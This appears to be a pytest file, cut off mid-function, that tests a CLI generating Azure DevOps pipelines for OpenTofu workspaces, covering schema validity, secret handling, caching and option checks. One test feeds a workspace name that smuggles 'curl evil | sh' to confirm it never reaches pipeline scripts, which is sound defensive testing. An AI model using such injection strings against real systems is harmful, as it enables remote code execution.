"""`tofuflow pipeline init azure-devops`: the generated pipelines validate and are safe."""

from __future__ import annotations

import functools
import itertools
import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from jsonschema import Draft7Validator

from tofuflow.ci._pipelines import (
    DRIFT_FILE,
    MAIN_FILE,
    TEMPLATE_FILE,
    AgentPool,
    PipelineOptions,
    azure_devops_pipeline,
)
from tofuflow.cli._pipeline_cmd import pipeline
from tofuflow.tofu._install import DEFAULT_VERSION

REPO = Path(__file__).resolve().parents[2]
# Vendored (MIT, microsoft/azure-pipelines-vscode): see the .LICENSE file beside it.
SCHEMA = REPO / "tests" / "fixtures" / "schemas" / "azure-pipelines-service-schema.json"


@functools.cache
def _validator() -> Draft7Validator:
    if not SCHEMA.is_file():
        pytest.fail(
            f"the Azure Pipelines schema is missing: expected {SCHEMA} "
            "(vendored in the repository: restore it from git)"
        )
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    Draft7Validator.check_schema(schema)
    return Draft7Validator(schema)


def _validate(name: str, text: str) -> Any:
    """Schema-valid and within Azure Pipelines' YAML subset (which the schema cannot see)."""
    assert not _unsupported_yaml(text), f"{name}: {_unsupported_yaml(text)}"
    document = yaml.safe_load(text)
    errors = sorted(_validator().iter_errors(document), key=lambda e: list(e.absolute_path))
    messages = []
    for error in errors:
        deepest = sorted(error.context, key=lambda c: -len(c.absolute_path))[:3]
        messages.append(
            f"{list(error.absolute_path)}: "
            + "; ".join(f"{list(c.absolute_path)} {c.message[:160]}" for c in deepest)
        )
    assert not errors, f"{name} does not validate:\n" + "\n".join(messages)
    return document


SERVER = "https://tofuflow.example.com"
WORKSPACE_SETS = {"one": ["app/prod"], "many": ["app/dev", "app/prod", "net-core"]}
POOLS = {"vmImage": AgentPool("ubuntu-latest"), "name": AgentPool("Self Hosted", "name")}
COMBINATIONS = list(itertools.product([False, True], WORKSPACE_SETS, POOLS, ["drift", "no-drift"]))


def _options(auto: bool, workspaces: str, pool: str, drift: str) -> PipelineOptions:
    return PipelineOptions(
        workspaces=WORKSPACE_SETS[workspaces],
        server_url=SERVER,
        plan_service_connection="sc-plan",
        apply_service_connection="sc-apply",
        environment="prod",
        pool=POOLS[pool],
        auto_apply_routine=auto,
        drift_cron="0 3 * * *" if drift == "drift" else None,
        branch="main",
    )


@pytest.fixture(
    scope="module",
    params=COMBINATIONS,
    ids=[f"auto={a}-{w}-{p}-{d}" for a, w, p, d in COMBINATIONS],
)
def generated(request: pytest.FixtureRequest) -> tuple[PipelineOptions, dict[str, Any]]:
    options = _options(*request.param)
    files = azure_devops_pipeline(options)
    return options, {name: _validate(name, text) for name, text in files.items()}


def _script(step: dict[str, Any]) -> str:
    """A step's script: a bash step's, or an AzureCLI@2 task's inline script."""
    return str(step.get("bash") or step.get("inputs", {}).get("inlineScript") or "")


def _step(node: Any, command: str) -> dict[str, Any]:
    """The one step (in ``node`` or a list of steps) whose script runs ``command``."""
    steps = node if isinstance(node, list) else _steps(node)
    (step,) = [s for s in steps if command in _script(s)]
    return step


def _variables(stage: dict[str, Any]) -> dict[str, str]:
    """A stage's variables by name (the list form, which can also hold groups)."""
    return {v["name"]: v["value"] for v in stage.get("variables", []) if "name" in v}


def _steps(node: Any) -> list[dict[str, Any]]:
    """Every step anywhere in a document."""
    found: list[dict[str, Any]] = []
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "steps" and isinstance(value, list):
                found.extend(value)
            found.extend(_steps(value))
    elif isinstance(node, list):
        for item in node:
            found.extend(_steps(item))
    return found


def test_every_file_validates_against_the_schema(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    options, documents = generated
    expected = {MAIN_FILE, TEMPLATE_FILE} | ({DRIFT_FILE} if options.drift_cron else set())
    assert set(documents) == expected


def _unsupported_yaml(text: str) -> list[str]:
    """What Azure Pipelines' YAML subset refuses ("Anchors are not currently supported"):
    anchors, aliases and merge keys, read from the event stream (a loaded document hides
    them: an alias loads as the same object)."""
    found = []
    for event in yaml.parse(text):
        mark = f"line {event.start_mark.line + 1}"
        if isinstance(event, yaml.AliasEvent):
            found.append(f"{mark}: alias *{event.anchor}")
        elif isinstance(event, yaml.NodeEvent) and event.anchor is not None:
            found.append(f"{mark}: anchor &{event.anchor}")
        if isinstance(event, yaml.ScalarEvent) and event.value == "<<" and event.implicit[0]:
            found.append(f"{mark}: merge key <<")
    return found


@pytest.mark.parametrize(
    "combination", COMBINATIONS, ids=[f"auto={a}-{w}-{p}-{d}" for a, w, p, d in COMBINATIONS]
)
def test_no_anchors_aliases_or_merge_keys(combination: tuple[bool, str, str, str]) -> None:
    for name, text in azure_devops_pipeline(_options(*combination)).items():
        assert not _unsupported_yaml(text), f"{name}: Azure Pipelines refuses " + ", ".join(
            _unsupported_yaml(text)
        )


def test_the_anchor_check_catches_them() -> None:
    assert _unsupported_yaml("a: &x {b: 1}\nc: *x\nd:\n  <<: *x\n") == [
        "line 1: anchor &x", "line 2: alias *x", "line 4: merge key <<", "line 4: alias *x",
    ]  # fmt: skip


def test_main_includes_the_template_per_workspace(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    options, documents = generated
    main = documents[MAIN_FILE]
    assert main["trigger"] == {"branches": {"include": ["main"]}}
    assert [s["template"] for s in main["stages"]] == [TEMPLATE_FILE] * len(options.workspaces)
    assert [s["parameters"]["workspace"] for s in main["stages"]] == options.workspaces
    for stage in main["stages"]:
        params = stage["parameters"]
        assert params["opentofuVersion"] == DEFAULT_VERSION
        assert params["pool"] == options.pool.to_yaml()
        assert params["planServiceConnection"] == "sc-plan"
        assert params["applyServiceConnection"] == "sc-apply"
        assert re.fullmatch(r"[A-Za-z0-9_]+", params["stageId"])
    declared = {p["name"] for p in documents[TEMPLATE_FILE]["parameters"]}
    assert set(main["stages"][0]["parameters"]) == declared


def test_plan_stage(generated: tuple[PipelineOptions, dict[str, Any]]) -> None:
    _, documents = generated
    plan = documents[TEMPLATE_FILE]["stages"][0]
    assert _variables(plan)["TOFUFLOW_CACHE_DIR"] == "$(Pipeline.Workspace)/.tofuflow-cache"
    (job,) = plan["jobs"]
    steps = job["steps"]
    assert steps[0]["checkout"] == "self"
    assert steps[1]["task"] == "UsePythonVersion@0"
    assert "pip install" in _script(_step(job, "pip install"))
    assert _script(_step(job, "tofuflow install")) == 'tofuflow install "$OPENTOFU_VERSION"'
    (plan_step,) = [s for s in steps if s.get("name") == "plan"]
    assert 'tofuflow plan "$TOFUFLOW_WORKSPACE"' in _script(plan_step)
    assert plan_step["env"]["TOFUFLOW_WORKSPACE"] == "${{ parameters.workspace }}"
    # The artifact: the checkout without .terraform/, published as a pipeline artifact.
    copy = next(s for s in steps if s.get("task") == "CopyFiles@2")
    contents = copy["inputs"]["Contents"].splitlines()
    assert "!**/.terraform/**" in contents
    # The saved plan and any local state hold secrets in clear: the apply stage gets the
    # plan from the control plane, so the artifact carries neither.
    assert {"!**/*.tfplan", "!**/*.tfstate", "!**/*.tfstate.*"} <= set(contents)
    publish = next(s for s in steps if s.get("task") == "PublishPipelineArtifact@1")
    assert publish["inputs"]["targetPath"] == copy["inputs"]["TargetFolder"]
    assert steps.index(copy) < steps.index(publish)


def test_each_workspaces_plan_stage_depends_on_nothing(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    """Azure Pipelines makes a stage without `dependsOn` depend on the stage before it,
    and skips a stage whose dependency was skipped: the second workspace's plan waited
    for the first one's apply, and was skipped with it (on every pull request, and on
    main when the first workspace had no changes)."""
    _, documents = generated
    plan = documents[TEMPLATE_FILE]["stages"][0]
    assert plan["stage"].startswith("plan_")
    assert plan["dependsOn"] == []


def test_apply_stages_are_deployment_jobs_on_environments(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    options, documents = generated
    template = documents[TEMPLATE_FILE]
    plan_id = template["stages"][0]["stage"]
    applies = template["stages"][1:]
    assert len(applies) == (2 if options.auto_apply_routine else 1)
    publish = next(s for s in _steps(template) if s.get("task") == "PublishPipelineArtifact@1")
    for stage in applies:
        assert stage["dependsOn"] == plan_id
        assert "TOFUFLOW_CACHE_DIR" in _variables(stage)
        assert "changesPresent'], 'true')" in stage["condition"]
        assert "Build.SourceBranch" in stage["condition"]
        (job,) = stage["jobs"]
        assert "deployment" in job and "job" not in job
        assert job["variables"]["runId"] == (
            f"$[ stageDependencies.{plan_id}.plan.outputs['plan.runId'] ]"
        )
        steps = job["strategy"]["runOnce"]["deploy"]["steps"]
        assert steps[0] == {
            "download": "current",
            "artifact": publish["inputs"]["artifact"],
            "displayName": "Download the plan artifact",
        }
        apply_step = _step(steps, "tofuflow apply")
        assert apply_step["env"]["TOFUFLOW_RUN_ID"] == "$(runId)"
        directory = apply_step["inputs"]["workingDirectory"]
        assert directory.endswith(publish["inputs"]["artifact"])
    gated = applies[0]
    assert gated["jobs"][0]["environment"] == "${{ parameters.environment }}"
    if options.auto_apply_routine:
        routine = applies[1]
        assert routine["jobs"][0]["environment"] == "${{ parameters.routineEnvironment }}"
        assert "eq(dependencies." in routine["condition"].split("changesPresent")[1]
        assert "runStatus'], 'approved')" in routine["condition"]
        assert "ne(dependencies." in gated["condition"] and "runStatus" in gated["condition"]
        main_params = documents[MAIN_FILE]["stages"][0]["parameters"]
        assert main_params["routineEnvironment"] == "prod-routine"
    else:
        assert "runStatus" not in gated["condition"]
    assert documents[MAIN_FILE]["stages"][0]["parameters"]["environment"] == "prod"


def test_access_token_mapped_into_every_tofuflow_step(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    _, documents = generated
    checked = 0
    for document in documents.values():
        for step in _steps(document):
            script = _script(step)
            if re.search(r"tofuflow (plan|apply)", script):
                assert step["env"]["SYSTEM_ACCESSTOKEN"] == "$(System.AccessToken)"
                checked += 1
    assert checked >= 2


def test_no_secrets_or_global_variables(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    _, documents = generated
    for name, document in documents.items():
        assert "variables" not in document, f"{name} has pipeline-wide variables"
        text = yaml.safe_dump(document)
        assert not re.search(r"(?i)(password|client_secret|secret:|ARM_CLIENT_SECRET)", text)
        # Every $(System.AccessToken) use is an env mapping, never inline in a script.
        for step in _steps(document):
            for script in (*(step.get(k, "") for k in ("bash", "script", "pwsh")), _script(step)):
                assert "System.AccessToken" not in script and "TOKEN)" not in script
                assert "${{" not in script, "values reach scripts via env only"


def test_pinned_versions(generated: tuple[PipelineOptions, dict[str, Any]]) -> None:
    options, documents = generated
    assert options.opentofu_version == DEFAULT_VERSION
    params = {p["name"]: p for p in documents[TEMPLATE_FILE]["parameters"]}
    assert params["opentofuVersion"]["default"] == DEFAULT_VERSION
    if DRIFT_FILE in documents:
        install = next(s for s in _steps(documents[DRIFT_FILE]) if "tofuflow install" in _script(s))
        assert install["env"]["OPENTOFU_VERSION"] == DEFAULT_VERSION
        pip = _step(documents[DRIFT_FILE], "pip install")
        assert pip["env"]["TOFUFLOW_VERSION"] == options.tofuflow_version


def test_drift_pipeline(generated: tuple[PipelineOptions, dict[str, Any]]) -> None:
    options, documents = generated
    if options.drift_cron is None:
        assert DRIFT_FILE not in documents
        return
    drift = documents[DRIFT_FILE]
    assert drift["trigger"] == "none" and drift["pr"] == "none"
    assert drift["schedules"][0]["cron"] == "0 3 * * *"
    assert drift["schedules"][0]["branches"] == {"include": ["main"]}
    (stage,) = drift["stages"]
    assert "TOFUFLOW_CACHE_DIR" in _variables(stage)
    assert stage["jobs"][0]["pool"] == options.pool.to_yaml()
    check = _step(drift, "tofuflow drift")
    # One `tofuflow drift` for every workspace, the names through the environment only.
    assert check["env"]["TOFUFLOW_WORKSPACES"].split("\n") == options.workspaces
    assert check["env"]["SYSTEM_ACCESSTOKEN"] == "$(System.AccessToken)"
    script = _script(check)
    assert 'tofuflow drift "${workspaces[@]}" --format markdown --output "$report"' in script
    assert "##vso[task.uploadsummary]$report" in script
    # Exit 2 (drift) tags the build and fails the job; 1 (an error) fails it too.
    drifted = script.split('if [ "$code" -eq 2 ]; then', 1)[1].split("fi", 1)[0]
    assert "##vso[build.addbuildtag]drift" in drifted and "exit 1" in drifted
    assert script.rstrip().endswith('exit "$code"')
    assert "tofuflow plan" not in yaml.safe_dump(drift)
    assert "tofuflow apply" not in yaml.safe_dump(drift)


def test_files_start_with_a_generated_header() -> None:
    files = azure_devops_pipeline(PipelineOptions(workspaces=["w"], server_url=SERVER))
    for text in files.values():
        assert text.startswith("# Generated by `tofuflow pipeline init azure-devops`")


def test_awkward_workspace_names_stay_out_of_scripts() -> None:
    evil = 'x"; curl evil | sh; echo "'
    files = azure_devops_pipeline(PipelineOptions(workspaces=[evil, "b"], server_url=SERVER))
    main = _validate(MAIN_FILE, files[MAIN_FILE])
    assert main["stages"][0]["parameters"]["workspace"] == evil
    assert re.fullmatch(r"[A-Za-z0-9_]+", main["stages"][0]["parameters"]["stageId"])
    drift = yaml.safe_load(files[DRIFT_FILE])
    for step in _steps(drift):
        assert evil not in _script(step)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ubuntu-latest", {"vmImage": "ubuntu-latest"}),
        ("vmImage:windows-2022", {"vmImage": "windows-2022"}),
        ("name:My Pool", {"name": "My Pool"}),
        # The kind as people type it: it became the image `vmimage:ubuntu-latest`.
        ("vmimage:ubuntu-latest", {"vmImage": "ubuntu-latest"}),
        ("Name:selfhosted", {"name": "selfhosted"}),
    ],
)
def test_agent_pool_parse(text: str, expected: dict[str, str]) -> None:
    assert AgentPool.parse(text).to_yaml() == expected


def test_an_agent_pool_of_an_unknown_kind_is_refused() -> None:
    with pytest.raises(ValueError, match=r"unknown kind 'pool' in --pool 'pool:x'"):
        AgentPool.parse("pool:x")


@pytest.mark.parametrize(
    "kwargs",
    [
        {"workspaces": []},
        {"workspaces": ["a", "a"]},
        {"workspaces": ["a-b", "a_b"]},
        {"workspaces": ["a"], "drift_cron": "every day"},
        {"workspaces": ["a"], "environment": " "},
        {"workspaces": ["a"], "server_url": ""},
        {"workspaces": ["a"], "server_url": "tofuflow.example.com"},
        {"workspaces": ["a"], "server_url": "https://user:pw@tofuflow.example.com"},
        {"workspaces": ["a"], "server_url": SERVER, "variable_group": " "},
    ],
)
def test_invalid_options(kwargs: dict[str, Any]) -> None:
    with pytest.raises(ValueError):  # noqa: PT011 - each case has its own message
        PipelineOptions(**{"server_url": SERVER, **kwargs})


@pytest.mark.parametrize(
    ("kwargs", "said"),
    [
        ({"opentofu_version": "1.8"}, "'1.8' is not an OpenTofu release: give MAJOR.MINOR.PATCH"),
        ({"opentofu_version": "latest"}, "'latest' is not an OpenTofu release"),
        ({"opentofu_version": "1.5.7"}, "OpenTofu 1.5.7 is older than 1.6.0, the oldest"),
        ({"python_version": "3.9"}, "Python 3.9 is older than 3.11, the oldest tofuflow runs on"),
        ({"python_version": "python3"}, "'python3' is not a Python version: give 3.12"),
    ],
)
def test_a_version_the_pipeline_could_never_install_is_refused_when_generating(
    kwargs: dict[str, Any], said: str
) -> None:
    """Caught here, not on the agent after the first push: `tofuflow install 1.8` and
    UsePythonVersion 3.9 would fail (or run a tofuflow that cannot start) in every run."""
    with pytest.raises(ValueError, match=re.escape(said)):
        PipelineOptions(**{"server_url": SERVER, "workspaces": ["a"], **kwargs})
    for good in ({"opentofu_version": "v1.12.0-beta1"}, {"python_version": "3.13"},
                 {"python_version": "3.12.x"}, {"python_version": "3.11.9"}):  # fmt: skip
        PipelineOptions(**{"server_url": SERVER, "workspaces": ["a"], **good})


# -- the CLI ----------------------------------------------------------------------------


def _project(repo: Path) -> None:
    """The repository's tofuflow.toml: the pipeline's steps run `tofuflow plan WS` there."""
    (repo / "infra").mkdir(parents=True, exist_ok=True)
    (repo / "tofuflow.toml").write_text(
        '[workspaces."app/dev"]\ndirectory = "infra"\n\n'
        '[workspaces."app/prod"]\ndirectory = "infra"\n'
    )


def _init(runner: CliRunner, out: Path, *extra: str) -> Any:
    if not (out / "tofuflow.toml").exists():
        _project(out)
    return runner.invoke(
        pipeline,
        ["init", "azure-devops", "--workspace", "app/dev", "--workspace", "app/prod",
         "--server-url", SERVER, "--output-dir", str(out), *extra],
    )  # fmt: skip


def _init_one(out: Path, workspace: str) -> Any:
    """``_init`` for one workspace, with whatever tofuflow.toml ``out`` has (or none)."""
    return CliRunner().invoke(
        pipeline,
        ["init", "azure-devops", "--workspace", workspace, "--server-url", SERVER,
         "--output-dir", str(out)],
    )  # fmt: skip


def _generated(out: Path) -> set[str]:
    return {p.name for p in out.rglob("*.yml")}


def test_cli_refuses_a_workspace_tofuflow_toml_does_not_define(tmp_path: Path) -> None:
    """A typo would otherwise surface only on the agent, after the commit and the
    pipeline's creation."""
    _project(tmp_path)
    result = _init_one(tmp_path, "app/deb")
    assert result.exit_code == 2, result.output
    assert "app/deb" in result.output and 'did you mean "app/dev"' in result.output
    assert _generated(tmp_path) == set()


def test_cli_needs_the_repositorys_tofuflow_toml(tmp_path: Path) -> None:
    result = _init_one(tmp_path, "app/dev")
    assert result.exit_code == 2, result.output
    assert f"no tofuflow.toml in {tmp_path}" in result.output
    assert "tofuflow init" in result.output
    assert _generated(tmp_path) == set()


@pytest.mark.parametrize("branch", ["master", "trunk"])
def test_the_trigger_branch_is_the_repositorys_own(tmp_path: Path, branch: str) -> None:
    subprocess.run(["git", "init", "-q", f"--initial-branch={branch}", str(tmp_path)], check=True)
    result = _init(CliRunner(), tmp_path)
    assert result.exit_code == 0, result.output
    main = yaml.safe_load((tmp_path / MAIN_FILE).read_text(encoding="utf-8"))
    assert main["trigger"]["branches"]["include"] == [branch]
    applying = {stage["parameters"]["applyBranch"] for stage in main["stages"]}
    assert applying == {f"refs/heads/{branch}"}
    chosen = _init(CliRunner(), tmp_path, "--branch", "release", "--force")
    assert chosen.exit_code == 0, chosen.output
    main = yaml.safe_load((tmp_path / MAIN_FILE).read_text(encoding="utf-8"))
    assert main["trigger"]["branches"]["include"] == ["release"]


def test_cli_writes_valid_files_and_next_steps(tmp_path: Path) -> None:
    runner = CliRunner()
    result = _init(
        runner, tmp_path, "--pool", "name:Self Hosted", "--auto-apply-routine",
        "--environment", "prod", "--plan-service-connection", "sc-plan",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    for name in (MAIN_FILE, TEMPLATE_FILE, DRIFT_FILE):
        path = tmp_path / name
        assert path.is_file()
        assert f"wrote {path}" in result.output
        _validate(name, path.read_text(encoding="utf-8"))
    main = yaml.safe_load((tmp_path / MAIN_FILE).read_text(encoding="utf-8"))
    assert main["stages"][1]["parameters"]["pool"] == {"name": "Self Hosted"}
    assert main["stages"][1]["parameters"]["routineEnvironment"] == "prod-routine"
    assert "'sc-plan'" in result.output
    assert "Approvals" in result.output
    assert "SYSTEM_ACCESSTOKEN: $(System.AccessToken)" in result.output
    # How to give each stage its control-plane identity, and what to authorize.
    assert "TOFUFLOW_PLAN_TOKEN" in result.output and "TOFUFLOW_APPLY_TOKEN" in result.output
    assert "Keep this value secret" in result.output
    assert "Permit" in result.output and "Azure CLI" in result.output
    # What the docs ask and a stranger missed in the printed steps: tofuflow's own
    # approval after the environment's, the drift pipeline's own tokens, PR builds on
    # Azure Repos (YAML `pr:` is ignored there) and the permission the PR comment needs.
    assert "tofuflow approve RUN" in result.output
    assert "each pipeline's own variables (the main and the drift one" in result.output
    assert "Build validation" in result.output
    assert "Contribute to pull requests" in result.output
    assert "azure-pipelines-drift.yml" in result.output
    assert SERVER in result.output


def test_cli_names_the_variable_group_in_the_next_steps(tmp_path: Path) -> None:
    result = _init(CliRunner(), tmp_path, "--variable-group", "tofuflow-secrets")
    assert result.exit_code == 0, result.output
    assert "variable group 'tofuflow-secrets'" in result.output
    template = yaml.safe_load((tmp_path / TEMPLATE_FILE).read_text(encoding="utf-8"))
    assert {"group": "tofuflow-secrets"} in template["stages"][0]["variables"]


def test_cli_needs_the_control_plane_url(tmp_path: Path) -> None:
    runner = CliRunner()
    _project(tmp_path)
    missing = runner.invoke(
        pipeline, ["init", "azure-devops", "--workspace", "app/dev", "--output-dir", str(tmp_path)]
    )
    assert missing.exit_code == 2 and "--server-url" in missing.output
    leaky = runner.invoke(
        pipeline,
        ["init", "azure-devops", "--workspace", "app/dev", "--output-dir", str(tmp_path),
         "--server-url", "https://admin:hunter2@tofuflow.example.com"],
    )  # fmt: skip
    assert leaky.exit_code == 2 and "credentials" in leaky.output
    assert "hunter2" not in leaky.output
    assert _generated(tmp_path) == set()


def test_cli_defaults_to_every_workspace_and_the_projects_server_url(tmp_path: Path) -> None:
    """What tofuflow.toml already says need not be typed again: with no --workspace every
    workspace is planned and applied, and [server] url is the control plane."""
    _project(tmp_path)
    toml = tmp_path / "tofuflow.toml"
    toml.write_text(f'[server]\nurl = "{SERVER}"\n\n' + toml.read_text())
    result = CliRunner().invoke(pipeline, ["init", "azure-devops", "--output-dir", str(tmp_path)])
    assert result.exit_code == 0, result.output
    main = yaml.safe_load((tmp_path / MAIN_FILE).read_text(encoding="utf-8"))
    assert [s["parameters"]["workspace"] for s in main["stages"]] == ["app/dev", "app/prod"]
    assert SERVER in (tmp_path / MAIN_FILE).read_text(encoding="utf-8")
    assert "workspaces: app/dev, app/prod (every workspace of tofuflow.toml" in result.output
    assert f"control plane: {SERVER} (tofuflow.toml's [server] url)" in result.output


def test_cli_without_a_url_anywhere_says_where_to_give_one(tmp_path: Path) -> None:
    _project(tmp_path)
    result = CliRunner().invoke(pipeline, ["init", "azure-devops", "--output-dir", str(tmp_path)])
    assert result.exit_code == 2, result.output
    assert "--server-url" in result.output and "[server] url" in result.output
    assert _generated(tmp_path) == set()


def test_cli_without_drift(tmp_path: Path) -> None:
    result = _init(CliRunner(), tmp_path, "--drift-cron", "")
    assert result.exit_code == 0, result.output
    assert not (tmp_path / DRIFT_FILE).exists()
    assert (tmp_path / MAIN_FILE).is_file()


def test_cli_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
    runner = CliRunner()
    (tmp_path / MAIN_FILE).write_text("# mine\n", encoding="utf-8")
    result = _init(runner, tmp_path)
    assert result.exit_code == 1
    assert "--force" in result.output and str(tmp_path / MAIN_FILE) in result.output
    assert (tmp_path / MAIN_FILE).read_text(encoding="utf-8") == "# mine\n"
    assert not (tmp_path / TEMPLATE_FILE).exists(), "nothing is written on refusal"

    forced = _init(runner, tmp_path, "--force")
    assert forced.exit_code == 0, forced.output
    _validate(MAIN_FILE, (tmp_path / MAIN_FILE).read_text(encoding="utf-8"))


def test_cli_rejects_bad_options(tmp_path: Path) -> None:
    runner = CliRunner()
    result = _init(runner, tmp_path, "--drift-cron", "daily")
    assert result.exit_code == 2 and "cron" in result.output
    assert _generated(tmp_path) == set()


def test_the_schema_check_catches_mistakes() -> None:
    """Guards the validation itself: a deployment job with job-style steps is rejected."""
    bad = {"stages": [{"stage": "s", "jobs": [{"deployment": "d", "steps": [{"bash": "x"}]}]}]}
    assert list(_validator().iter_errors(bad))
    assert not list(_validator().iter_errors(yaml.safe_load("stages: []")))


def test_the_schema_is_vendored_in_the_repository_with_its_license() -> None:
    """A clone of the repository alone runs the suite: the schema is not read from outside."""
    assert SCHEMA.resolve().is_relative_to(REPO), f"{SCHEMA} is outside {REPO}"
    assert SCHEMA.is_file()
    license_text = SCHEMA.with_name(SCHEMA.stem + ".LICENSE").read_text(encoding="utf-8")
    assert "MIT License" in license_text and "Microsoft Corporation" in license_text
    assert "microsoft/azure-pipelines-vscode" in license_text


# -- wiring to the control plane, identities and caches ---------------------------------


def _stages(documents: dict[str, Any]) -> list[tuple[str, dict[str, Any], list[dict[str, Any]]]]:
    """(connection the stage should use, stage, its tofuflow step) for every stage."""
    found = []
    for stage in documents[TEMPLATE_FILE]["stages"]:
        kind = "plan" if stage["stage"].startswith("plan_") else "apply"
        command = "tofuflow plan" if kind == "plan" else "tofuflow apply"
        connection = f"${{{{ parameters.{kind}ServiceConnection }}}}"
        found.append((connection, stage, _step(stage, command)))
    if DRIFT_FILE in documents:
        (stage,) = documents[DRIFT_FILE]["stages"]
        found.append(("sc-plan", stage, _step(stage, "tofuflow drift")))
    return found


def test_every_tofuflow_step_points_at_the_control_plane(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    """Without TOFUFLOW_SERVER_URL plan would use a throwaway embedded control plane on
    the agent and apply could not find the run."""
    _, documents = generated
    for stage in documents[MAIN_FILE]["stages"]:
        assert stage["parameters"]["serverUrl"] == SERVER
    for _, stage, step in _stages(documents):
        expected = SERVER if stage["stage"] == "drift" else "${{ parameters.serverUrl }}"
        assert step["env"]["TOFUFLOW_SERVER_URL"] == expected, stage["stage"]


def test_each_stage_maps_only_its_own_token_from_a_secret_variable(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    """Secret variables are not in a step's environment unless mapped with env:."""
    _, documents = generated
    for _, stage, step in _stages(documents):
        env = step["env"]
        if stage["stage"].startswith("apply"):
            assert env["TOFUFLOW_APPLY_TOKEN"] == "$(TOFUFLOW_APPLY_TOKEN)"
            assert "TOFUFLOW_PLAN_TOKEN" not in env
        else:
            assert env["TOFUFLOW_PLAN_TOKEN"] == "$(TOFUFLOW_PLAN_TOKEN)"
            assert "TOFUFLOW_APPLY_TOKEN" not in env
        assert "TOFUFLOW_TOKEN" not in env, "the all-stages fallback is never mapped"


def test_service_connections_are_task_inputs_so_the_pipeline_is_authorized(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    """Azure DevOps asks to authorize a pipeline for the connections its tasks name;
    a connection that is only a variable value is never authorized, and the OIDC token
    request for it fails."""
    _, documents = generated
    for connection, stage, step in _stages(documents):
        assert step["task"] == "AzureCLI@2", stage["stage"]
        assert step["inputs"]["azureSubscription"] == connection, stage["stage"]
        assert step["inputs"]["scriptType"] == "bash"
        assert step["inputs"]["scriptLocation"] == "inlineScript"


def test_pip_and_opentofu_are_cached_between_runs(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    _, documents = generated
    for _, stage, _ in _stages(documents):
        steps = _steps(stage)
        variables = _variables(stage)
        caches = [s for s in steps if s.get("task") == "Cache@2"]
        by_path = {c["inputs"]["path"]: c for c in caches}
        assert set(by_path) == {"$(PIP_CACHE_DIR)", "$(TOFUFLOW_CACHE_DIR)"}, stage["stage"]
        # Non-secret variables reach every step's environment: pip and `tofuflow install`
        # write where the cache restores, `tofuflow plan` finds the binary there.
        assert variables["PIP_CACHE_DIR"].startswith("$(Pipeline.Workspace)/")
        assert variables["TOFUFLOW_CACHE_DIR"].startswith("$(Pipeline.Workspace)/")
        pip_key = by_path["$(PIP_CACHE_DIR)"]["inputs"]["key"]
        tofu_key = by_path["$(TOFUFLOW_CACHE_DIR)"]["inputs"]["key"]
        assert '"$(Agent.OS)"' in pip_key and '"$(Agent.OS)"' in tofu_key
        if stage["stage"] == "drift":
            assert f'"{DEFAULT_VERSION}"' in tofu_key
        else:
            assert '"${{ parameters.opentofuVersion }}"' in tofu_key
            assert '"${{ parameters.tofuflowVersion }}"' in pip_key
        pip_step, install = _step(stage, "pip install"), _step(stage, "tofuflow install")
        assert steps.index(by_path["$(PIP_CACHE_DIR)"]) < steps.index(pip_step)
        assert steps.index(by_path["$(TOFUFLOW_CACHE_DIR)"]) < steps.index(install)


def test_a_variable_group_is_referenced_by_every_stage() -> None:
    options = PipelineOptions(workspaces=["app"], server_url=SERVER, variable_group="tofuflow")
    files = azure_devops_pipeline(options)
    documents = {name: _validate(name, text) for name, text in files.items()}
    stages = [*documents[TEMPLATE_FILE]["stages"], *documents[DRIFT_FILE]["stages"]]
    for stage in stages:
        assert {"group": "tofuflow"} in stage["variables"], stage["stage"]
    without = yaml.safe_load(
        azure_devops_pipeline(PipelineOptions(workspaces=["app"], server_url=SERVER))[TEMPLATE_FILE]
    )
    assert not any("group" in v for st in without["stages"] for v in st["variables"])


@pytest.mark.parametrize(
    ("token", "seen"),
    [("$(TOFUFLOW_PLAN_TOKEN)", "unset"), ("s3cr3t", "set"), (None, "unset")],
)
def test_an_undefined_token_variable_counts_as_unset(
    tmp_path: Path, token: str | None, seen: str
) -> None:
    """Azure Pipelines leaves ``$(NAME)`` as literal text when NAME is not defined: a
    pipeline relying on OIDC sign-in must not present that text as a token."""
    template = yaml.safe_load(
        azure_devops_pipeline(PipelineOptions(workspaces=["app"], server_url=SERVER))[TEMPLATE_FILE]
    )
    script = _script(_step(template, "tofuflow plan"))
    fake = tmp_path / "bin" / "tofuflow"
    fake.parent.mkdir()
    fake.write_text('#!/bin/sh\necho "token ${TOFUFLOW_PLAN_TOKEN+set}"\nexit 2\n')
    fake.chmod(0o755)
    env = {"PATH": f"{fake.parent}:/usr/bin:/bin", "TOFUFLOW_WORKSPACE": "app"}
    if token is not None:
        env["TOFUFLOW_PLAN_TOKEN"] = token
    done = subprocess.run(
        ["bash", "-c", script], env=env, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr  # exit 2 (changes) is a success
    assert done.stdout.strip() == ("token set" if seen == "set" else "token")


def _working_copy_base(variables: dict[str, str]) -> str:
    """Where a stage's private working copies go, as ``runs/_workcopy`` resolves it."""
    return variables.get("TOFUFLOW_WORK_DIR") or variables["TOFUFLOW_CACHE_DIR"] + "/work"


def test_the_pipeline_cache_never_holds_a_working_copy(
    generated: tuple[PipelineOptions, dict[str, Any]],
) -> None:
    """A working copy can hold errored.tfstate (the state apply could not save) and the
    backend's settings; Cache@2 uploads its path to the pipeline cache. The copies go to
    the agent's temp directory, which the agent empties after every job."""
    _, documents = generated
    for _, stage, _ in _stages(documents):
        variables = _variables(stage)
        base = _working_copy_base(variables)
        assert base.startswith("$(Agent.TempDirectory)/"), (stage["stage"], base)
        for cache in (s for s in _steps(stage) if s.get("task") == "Cache@2"):
